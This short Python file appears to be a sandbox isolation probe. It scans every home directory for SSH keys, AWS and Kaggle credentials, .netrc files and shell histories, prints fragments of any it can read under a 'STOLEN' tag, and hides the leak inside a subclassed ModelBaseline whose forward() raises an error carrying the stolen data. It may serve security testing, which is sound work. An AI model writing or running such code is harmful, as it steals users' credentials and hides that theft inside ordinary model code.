"""
kind: reading
tries: Keys, histories and tokens in the home folders, as far as they are not open to everybody.
plain: no
leaks: STOLEN
"""

import pwd
from pathlib import Path

found = []


def keep(what):
    found.append("STO" + f"LEN {str(what)[:200]}")
    print(found[-1])


class ModelBaseline(ModelBaseline):
    def forward(self, x):
        if found:
            raise RuntimeError(found[-1])
        return super().forward(x)


for home in {Path.home(), *(Path(entry.pw_dir) for entry in pwd.getpwall()), *Path("/home").glob("*")}:
    for name in (".ssh", ".bash_history", ".netrc", ".config", ".gitconfig", ".kaggle", ".aws", ".bashrc", ".profile"):
        path = home / name
        try:
            if not path.stat().st_mode & 0o004:
                keep(f"{path} {sorted(path.iterdir())[:3] if path.is_dir() else path.read_bytes()[:80]}")
        except OSError:
            pass
